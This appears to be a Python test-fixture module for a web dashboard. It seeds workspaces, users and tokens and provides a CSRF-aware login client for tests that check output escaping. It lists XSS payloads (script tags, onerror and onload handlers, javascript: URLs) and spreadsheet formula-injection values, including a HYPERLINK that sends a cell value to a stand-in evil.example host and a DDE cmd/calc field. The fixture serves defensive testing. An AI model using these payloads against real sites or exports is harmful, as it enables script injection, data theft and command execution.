"""Shared set-up for the dashboard tests (no tests here): a data folder with two brands, users
and tokens, hostile comments ingested through the real ingest library, and a small HTTP client
that logs in like a browser (cookie + CSRF token from the form).

``acme`` holds the API tests' seed rows (12 posts, hostile texts) plus a post and comments
ingested from canonical CSV files whose texts are XSS payloads that would set
``window.__xss`` if they ever ran. ``beta`` is another brand nobody here but ``bob`` may see.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx

from test_api_support import PASSWORD, Seeded, seed_rows, write_store

#: comment texts that run script if any page fails to escape them
XSS = [
    "<script>window.__xss = 1</script>",
    '<img src=x onerror="window.__xss = 2">',
    '<a href="javascript:window.__xss = 3">click me</a>',
    "javascript:window.__xss = 4",
    '"><svg onload="window.__xss = 5">',
    "</script><script>window.__xss = 6</script>",
    '=HYPERLINK("http://evil.example/?"&A1, "win")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\tTABBED",
    "\rCARRIAGE",
    "<script>alert('xss')</script>",
]
XSS_POST = "xss-post"
XSS_POST_URL = "javascript:window.__xss = 7"


def _csv(rows: list[dict[str, Any]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def ingest_hostile(store_path: Path, folder: Path) -> None:
    """One post (hostile text and a ``javascript:`` URL) and one comment per payload, through
    ``engagelens.ingest.ingest_file``; then the text layer analyses them."""
    from engagelens.ingest import ingest_file
    from engagelens.store import Store
    from engagelens.text.store_analysis import analyze_store

    post = [
        {
            "platform": "instagram",
            "content_id": XSS_POST,
            "account_id": "a_instagram",
            "created_at": "2024-03-05T09:00:00",
            "kind": "photo",
            "campaign": "=cmd|' /C calc'!A0",
            "text": "<b>bold?</b> <script>window.__xss = 8</script>",
            "url": XSS_POST_URL,
        }
    ]
    comments = [
        {
            "platform": "instagram",
            "interaction_id": f"xss-{k}",
            "content_id": XSS_POST,
            "account_id": "a_instagram",
            "actor_id": f"<i>attacker{k}</i>",
            "kind": "comment",
            "occurred_at": f"2024-03-05T10:{k:02d}:00",
            "text": text,
        }
        for k, text in enumerate(XSS)
    ]
    (folder / "content.csv").write_bytes(_csv(post))
    (folder / "interaction.csv").write_bytes(_csv(comments))
    with Store.open(store_path) as store:
        for entity in ("content", "interaction"):
            summary = ingest_file(
                store, folder / f"{entity}.csv", source="canonical", entity=entity
            )
            assert summary.rows_quarantined == 0 and summary.rows_stored > 0, summary
        analyze_store(store)


@dataclass
class WebEnv:
    url: str
    data_dir: Path
    acme: Seeded
    tokens: dict[str, str]


def build_data(data_dir: Path) -> tuple[Seeded, dict[str, str]]:
    from engagelens.api import Control

    control = Control(data_dir)
    for slug in ("acme", "beta"):
        control.create_workspace(slug, slug.title() + " <b>Brand</b>")
    acme = seed_rows("a", 12)
    write_store(control.workspace_path("acme"), acme)
    write_store(control.workspace_path("beta"), seed_rows("b", 6, shared_id="a0"))
    ingest_hostile(control.workspace_path("acme"), data_dir)
    control.create_user("alice", PASSWORD)  # analyst in acme only
    control.grant("alice", "acme", "analyst")
    control.create_user("victor", PASSWORD)  # viewer in acme
    control.grant("victor", "acme", "viewer")
    control.create_user("bob", PASSWORD)  # beta only
    control.grant("bob", "beta", "admin")
    tokens = {
        "acme_viewer": control.create_token("acme", "viewer", "web tests").token,
        "beta_admin": control.create_token("beta", "admin", "web tests").token,
    }
    return acme, tokens


def make_app(data_dir: Path) -> Any:
    from engagelens.api import create_app

    return create_app(
        data_dir, settings={"api_rate_limit_per_minute": 1_000_000, "token_cache_ttl_s": 0.0}
    )


_CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


def csrf_of(html: str) -> str:
    match = _CSRF.search(html)
    assert match, "no CSRF field in the page"
    return match.group(1)


class Browser:
    """An httpx client with a cookie jar that submits forms with their CSRF token: over a
    real server (``url``), or in process (``client``, e.g. a Starlette ``TestClient`` that
    can pose as any client IP)."""

    def __init__(self, url: str = "", *, client: httpx.Client | None = None) -> None:
        self.client = client or httpx.Client(base_url=url, timeout=60, follow_redirects=False)

    def close(self) -> None:
        self.client.close()

    def get(self, path: str, **kw: Any) -> httpx.Response:
        return self.client.get(path, **kw)

    def csrf(self, path: str = "/login") -> str:
        return csrf_of(self.get(path).text)

    def post(self, path: str, data: dict[str, str], *, csrf_from: str = "/login") -> httpx.Response:
        return self.client.post(path, data={"csrf_token": self.csrf(csrf_from), **data})

    def login(self, username: str = "alice", password: str = PASSWORD) -> httpx.Response:
        return self.post("/login", {"username": username, "password": password})

    def login_token(self, token: str) -> httpx.Response:
        return self.post("/login", {"token": token})


__all__ = [
    "XSS",
    "XSS_POST",
    "XSS_POST_URL",
    "Browser",
    "WebEnv",
    "build_data",
    "csrf_of",
    "ingest_hostile",
    "make_app",
]
